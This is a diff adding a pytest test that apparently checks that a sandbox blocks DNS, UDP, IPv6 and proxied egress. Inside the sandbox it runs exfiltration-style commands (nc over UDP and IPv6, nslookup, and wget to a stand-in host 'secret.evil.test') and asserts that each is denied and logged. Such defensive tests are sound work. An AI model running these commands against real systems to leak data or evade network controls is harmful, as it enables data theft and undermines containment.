@@ -207,3 +207,32 @@ def test_a_denied_forwarded_connection_is_closed_at_once(
     [entry] = last_network(root, workspace)
     assert (entry["via"], entry["decision"]) == ("forwarder", "denied")
     assert "loopback, private or special address" in entry["reason"]
+
+
+def test_no_dns_udp_or_ipv6_leaves_the_sandbox(root: Caller, workspace: Path) -> None:
+    """NET-08/09/12: a fake DNS server and an IPv6 server on the host see nothing."""
+    dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    dns.bind(("127.0.0.1", 0))
+    dns.settimeout(0.5)
+    v6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+    v6.bind(("::1", 0))
+    v6.listen()
+    v6.settimeout(0.5)
+    dns_port, v6_port = dns.getsockname()[1], v6.getsockname()[1]
+    try:
+        out = inside(root, workspace,
+                     f"echo secret.evil.test | nc -u -w 1 127.0.0.1 {dns_port}; echo udp=$?; "
+                     f"nslookup secret.evil.test 2>&1 >/dev/null; echo dns=$?; "
+                     f"nc -w 2 ::1 {v6_port} </dev/null 2>&1; echo v6=$?; "
+                     f"wget -q -O - http://secret.evil.test/ 2>&1; echo proxied=$?",
+                     "--allow", "127.0.0.1/32:9")
+        assert "dns=0" not in out and "v6=0" not in out and "proxied=0" not in out
+        with pytest.raises(socket.timeout):
+            dns.recvfrom(512)
+        with pytest.raises(socket.timeout):
+            v6.accept()
+        denied = [e for e in last_network(root, workspace) if e["host"] == "secret.evil.test"]
+        assert denied and denied[0]["reason"] == "no network.allow entry matches"  # refused before any lookup
+    finally:
+        dns.close()
+        v6.close()
